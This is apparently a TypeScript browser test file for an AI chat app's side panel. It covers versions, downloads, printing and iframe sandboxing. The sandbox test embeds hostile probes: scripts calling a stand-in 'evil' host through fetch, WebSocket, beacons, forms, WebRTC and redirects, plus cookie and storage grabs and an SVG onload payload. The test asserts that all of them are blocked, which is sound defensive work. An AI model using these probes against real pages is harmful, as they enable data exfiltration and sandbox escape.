import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type ScriptedModel, startScriptedModel } from '../simulators/openai/scripted.ts'
import { answered, answers, ask, focused, openBrowser, openPage, overflow, signUp, violations } from './browser.ts'
import { type Jarvis, startJarvis } from './jarvis.ts'

/** Who a hostile page would reach: by HTTP, and by what WebRTC sends. */
const hits: string[] = []
const stranger = createServer(({ method, url = '' }, response) => {
  hits.push(`${method} ${url}`)
  response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('reached')
})
stranger.on('upgrade', ({ url }, socket) => {
  hits.push(`upgrade ${url}`)
  socket.destroy()
})
stranger.listen(0, '127.0.0.1')
const packets = createSocket('udp4', () => hits.push('a packet')).bind(0, '127.0.0.1')
await Promise.all([once(stranger, 'listening'), once(packets, 'listening')])
const evil = `127.0.0.1:${(stranger.address() as AddressInfo).port}`
const stun = `stun:127.0.0.1:${packets.address().port}`

const fence = (info: string, code: string) => `\`\`\`\`${info}\n${code}\n\`\`\`\``
const page = (word: string) =>
  fence(
    'html page.html',
    `<!doctype html>\n<style>h1 { color: teal }</style>\n<h1 id="word">${word}</h1>\n<script>word.textContent += ' runs'</script>`,
  )
const report = fence(
  'markdown report.md',
  '# Quarterly report\n\nSales **rose**.\n\n| Town | People |\n| --- | ---: |\n| Bonn | 1,200 |\n\n- one\n- two\n\n```ts\nconst a = 1\n```',
)
const picture = fence(
  'svg',
  `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(1)"><script>fetch('http://${evil}/svg')</script><image href="http://${evil}/svg-image" width="9" height="9"/><rect width="200" height="100" fill="teal"/></svg>`,
)

/** Each is tried; what it said stands in the page. */
const probes: Record<string, string> = {
  fetch: `await fetch('http://${evil}/fetch')`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', 'http://${evil}/xhr', false); x.send()`,
  beacon: `navigator.sendBeacon('http://${evil}/beacon', 'x')`,
  socket: `const w = new WebSocket('ws://${evil}/socket'); await new Promise((_, no) => { w.onerror = () => no(new Error('refused')) })`,
  events: `const e = new EventSource('http://${evil}/events'); await new Promise((_, no) => { e.onerror = () => no(new Error('refused')) })`,
  image: `new Image().src = 'http://${evil}/image'`,
  script: `const s = document.createElement('script'); s.src = 'http://${evil}/script'; document.body.append(s)`,
  module: `await import('http://${evil}/module')`,
  css: `document.body.style.background = 'url(http://${evil}/css)'`,
  sheet: `document.body.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="http://${evil}/sheet"><style>@import "http://${evil}/import"; @font-face { font-family: f; src: url(http://${evil}/font) } p { font-family: f }</style><p>x')`,
  media: `document.body.insertAdjacentHTML('beforeend', '<video src="http://${evil}/video"></video><audio src="http://${evil}/audio"></audio><object data="http://${evil}/object"></object><embed src="http://${evil}/embed">')`,
  hints: `for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender', 'manifest', 'icon']) document.head.insertAdjacentHTML('beforeend', '<link rel="' + rel + '" as="image" href="http://${evil}/hint-' + rel + '">')`,
  speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["http://${evil}/speculation"]}]}'; document.head.append(s)`,
  frame: `document.body.insertAdjacentHTML('beforeend', '<iframe src="http://${evil}/frame"></iframe>')`,
  nested: `const f = document.createElement('iframe'); f.srcdoc = '<img src="http://${evil}/nested"><script>fetch("http://${evil}/nested-fetch")<' + '/script>'; document.body.append(f)`,
  form: `const f = document.createElement('form'); f.action = 'http://${evil}/form'; f.method = 'post'; document.body.append(f); f.submit()`,
  ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${evil}/ping'; document.body.append(a); a.click()`,
  open: `if (window.open('http://${evil}/open') !== null) throw new Error('opened')`,
  blank: `const a = document.createElement('a'); a.href = 'http://${evil}/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
  top: `top.location = 'http://${evil}/top'`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("http://${evil}/worker")'])))`,
  service: `await navigator.serviceWorker.register('/frame/artifact.html')`,
  storage: `localStorage.x = 1`,
  session: `sessionStorage.x = 1`,
  cookie: `document.cookie = 'a=b'; if (document.cookie !== '') throw new Error('kept')`,
  database: `await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(new Error('refused')) })`,
  caches: `await caches.open('x')`,
  parent: `parent.document.body`,
  own: `const r = await fetch('/api/v1/me', { credentials: 'include' }); throw new Error(String(r.status))`,
  webrtc: `const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); await c.setLocalDescription()`,
  nestedWebrtc: `const f = document.createElement('iframe'); document.body.append(f); const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); await c.setLocalDescription()`,
  flood: `for (let i = 0; i < 20000; i++) parent.postMessage({ ready: true, id: i, svg: '<svg onload=alert(1)>', html: '<img src=http://${evil}/flood>' }, '*')`,
  dialog: `alert(1); confirm(2); prompt(3)`,
}
const hostile = `<!doctype html><body><pre id="said"></pre><script>
const said = {}
const probe = async (name, run) => { try { await Promise.race([run(), new Promise((yes) => setTimeout(yes, 3000))]); said[name] = 'done' } catch (error) { said[name] = String(error).slice(0, 80) } }
(async () => {
${Object.entries(probes)
  .map(([name, code]) => `await probe('${name}', async () => { ${code} })`)
  .join('\n')}
document.getElementById('said').textContent = 'Said: ' + JSON.stringify(said)
})()
</script>`
/** Pages that leave. */
const leaving: Record<string, string> = {
  self: `<p>here<script>location.href = 'http://${evil}/self?secret'</script>`,
  meta: `<meta http-equiv="refresh" content="0;url=http://${evil}/meta"><p>here`,
  base: `<base href="http://${evil}/"><p>here<img src="base"><script src="base-script"></script>`,
  link: `<p>here<a id="a" href="http://${evil}/link">x</a><script>a.click()</script>`,
}
const busy = '<p>here<script>while (true) {}</script>'

let jarvis: Jarvis
let model: ScriptedModel
let browser: Browser
beforeAll(async () => {
  model = await startScriptedModel(({ body }) => {
    const messages = (body['messages'] ?? []) as { role: string; content: unknown }[]
    const asked = JSON.stringify(messages.findLast(({ role }) => role === 'user')?.content ?? '')
    const named = Object.entries({
      ...Object.fromEntries(Object.entries(leaving).map(([name, html]) => [`leave by ${name}`, fence(`html ${name}.html`, html)])),
      'first page': page('One'),
      'second page': page('Two'),
      report,
      picture,
      hostile: fence('html hostile.html', hostile),
      busy: fence('html busy.html', busy),
    }).find(([name]) => asked.includes(name))
    return { text: named ? `Here it is.\n\n${named[1]}` : 'Well.' }
  })
  ;[jarvis, browser] = await Promise.all([startJarvis({ OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: model.url }), openBrowser()])
})
afterAll(async () => {
  await browser.close()
  await jarvis[Symbol.asyncDispose]()
  await model.close()
  stranger.close()
  packets.close()
})

const shots = process.env['SCREENSHOTS']
const shoot = async (page: Page, name: string) => void (shots && (await page.screenshot({ path: `${shots}/${name}.png` })))
const opener = (page: Page) => answers(page).last().getByRole('button', { name: 'Open beside the chat' })
const preview = (page: Page, name: string) => page.frameLocator(`iframe[title="Preview of ${name}"]`)

async function askFor(page: Page, text: string) {
  const before = await answers(page).count()
  await ask(page, text)
  await answers(page)
    .nth(before)
    .getByText(/Here it is|Well/)
    .waitFor()
  await answered(page)
}

test.each([
  ['light', 1280],
  ['dark', 360],
] as const)(
  'a page opens beside the chat, with its versions, changes and code, by keyboard alone: %s, %i pixels wide',
  async (colorScheme, width) => {
    const { page, complaints } = await openPage(browser, jarvis.url, { colorScheme, viewport: { width, height: 800 } })
    await signUp(page)
    await askFor(page, 'The first page')
    await askFor(page, 'The second page')
    await opener(page).press('Enter')
    const panel = page.getByRole(width > 1000 ? 'complementary' : 'dialog', { name: 'page.html' })
    await panel.waitFor()
    await preview(page, 'page.html').getByText('Two runs').waitFor()
    await shoot(page, `artifact-${width}`)
    expect(await violations(page)).toEqual([])
    expect(await overflow(page)).toBeLessThanOrEqual(0)
    await panel.getByRole('combobox', { name: 'Version' }).selectOption('0')
    await preview(page, 'page.html').getByText('One runs').waitFor()
    await panel.getByRole('combobox', { name: 'Version' }).selectOption('1')
    await panel.getByRole('radio', { name: 'Changes' }).check({ force: true })
    const changes = panel.getByRole('group', { name: 'Changes' })
    expect(await changes.innerText()).toMatch(/Removed:\s+−?\s*<h1 id="word">One[^]*Added:\s+\+?\s*<h1 id="word">Two/)
    await shoot(page, `artifact-changes-${width}`)
    expect(await violations(page)).toEqual([])
    await panel.getByRole('radio', { name: 'Code' }).check({ force: true })
    const [file] = await Promise.all([page.waitForEvent('download'), panel.getByRole('button', { name: 'Download', exact: true }).press('Enter')])
    expect(file.suggestedFilename()).toBe('page.html')
    expect(readFileSync(await file.path(), 'utf8')).toContain('Two')
    if (width > 1000) {
      await panel.getByRole('button', { name: 'Full screen' }).press('Enter')
      await page.getByRole('dialog', { name: 'page.html' }).getByRole('button', { name: 'Leave full screen' }).press('Enter')
      await panel.waitFor()
    }
    await panel.getByRole('button', { name: 'Close' }).press('Escape')
    await panel.waitFor({ state: 'detached' })
    await expect.poll(() => focused(page)).toBe('Open beside the chat')
    expect(complaints).toEqual([])
  },
)

test('a document is read, saved for Word, and printed by itself', async () => {
  const { page, complaints } = await openPage(browser, jarvis.url)
  await page.addInitScript('window.print = () => {}')
  await signUp(page)
  await askFor(page, 'A report')
  await opener(page).click()
  const panel = page.getByRole('complementary', { name: 'report.md' })
  await panel.getByRole('heading', { name: 'Quarterly report' }).waitFor()
  await shoot(page, 'artifact-document')
  const [word] = await Promise.all([page.waitForEvent('download'), panel.getByRole('button', { name: 'Download for Word' }).click()])
  expect(word.suggestedFilename()).toBe('report.docx')
  expect(
    readFileSync(await word.path())
      .subarray(0, 2)
      .toString(),
  ).toBe('PK')
  await panel.getByRole('button', { name: 'Print or save as PDF' }).click()
  await page.emulateMedia({ media: 'print' })
  const printed = page.locator('.print-only')
  expect(await printed.innerText()).toMatch(/Quarterly report[^]*Bonn/)
  expect(await printed.isVisible()).toBe(true)
  expect(await page.locator('#root').isVisible()).toBe(false)
  expect((await page.pdf()).subarray(0, 5).toString()).toBe('%PDF-')
  await page.emulateMedia({ media: 'screen' })
  await page.evaluate('dispatchEvent(new Event("afterprint"))')
  expect(await printed.count()).toBe(0)
  expect(complaints).toEqual([])
})

test('a hostile page reaches nothing: no network, no storage, no page but its own', async () => {
  const { page, context } = await openPage(browser, jarvis.url)
  const opened: string[] = []
  page.on('dialog', (dialog) => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
  context.on('page', (other) => opened.push(other.url()))
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(jarvis.url) && !/^(blob|data|about):/.test(request.url())) outside.push(request.url())
  })
  await signUp(page)
  await askFor(page, 'Something hostile')
  await opener(page).click()
  const text = await preview(page, 'hostile.html')
    .getByText(/^Said: /)
    .innerText()
  const said = JSON.parse(text.slice('Said: '.length)) as Record<string, string>
  expect(Object.keys(said).toSorted()).toEqual(Object.keys(probes).toSorted())
  for (const name of [
    'fetch',
    'xhr',
    'socket',
    'events',
    'module',
    'top',
    'service',
    'storage',
    'session',
    'database',
    'caches',
    'parent',
    'own',
    'webrtc',
  ])
    expect([name, said[name]]).toEqual([name, expect.stringMatching(/error|refused|denied|blocked/i)])
  await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click()

  for (const [name] of Object.entries(leaving)) {
    await askFor(page, `I want to leave by ${name}`)
    await opener(page).click()
    await page.locator(`iframe[title="Preview of ${name}.html"]`).waitFor()
    // Long enough to leave: what follows takes several round trips to the server.
    await askFor(page, 'And now?')
    await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click()
  }
  await askFor(page, 'A picture')
  await opener(page).click()
  await page.getByRole('complementary').getByRole('img', { name: 'Preview of code.svg' }).waitFor()
  expect(new URL(page.url()).origin).toBe(jarvis.url)
  expect(opened).toEqual([])
  expect(hits).toEqual([])
  // The stranger can be reached: by the page that the frame is not.
  await fetch(`http://${evil}/control`)
  expect(hits).toEqual(['GET /control'])
  hits.length = 0
  // By itself, in a window of its own, the frame is a stranger too.
  const { headers } = await fetch(`${jarvis.url}/frame/artifact.html`)
  expect(headers.get('content-security-policy')).toMatch(/^sandbox allow-scripts; default-src 'none'/)
  expect(headers.get('content-security-policy')).not.toContain('allow-same-origin')
})

test('a page that works for ever does not hold up the chat', async () => {
  const { page } = await openPage(browser, jarvis.url)
  await signUp(page)
  await askFor(page, 'Something busy')
  await opener(page).click()
  await page.locator('iframe[title="Preview of busy.html"]').waitFor()
  await askFor(page, 'And now?')
  await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click()
  await page.locator('iframe[title="Preview of busy.html"]').waitFor({ state: 'detached' })
})
